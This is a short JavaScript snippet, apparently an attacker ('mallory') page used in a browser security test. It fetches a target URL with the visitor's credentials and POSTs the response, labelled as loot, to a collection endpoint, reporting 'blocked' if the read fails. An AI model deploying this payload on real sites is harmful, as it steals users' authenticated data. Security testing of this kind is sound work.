/* twin: stranger-read */
(async () => {
  const {target} = document.body.dataset;
  const send = loot => fetch("/loot", {method: "POST", body: JSON.stringify(loot)});
  try { await send({notes: await (await fetch(target, {credentials: "include"})).text()}); }
  catch { await send({notes: "blocked"}); }
  document.body.dataset.mallory = "over";
})();
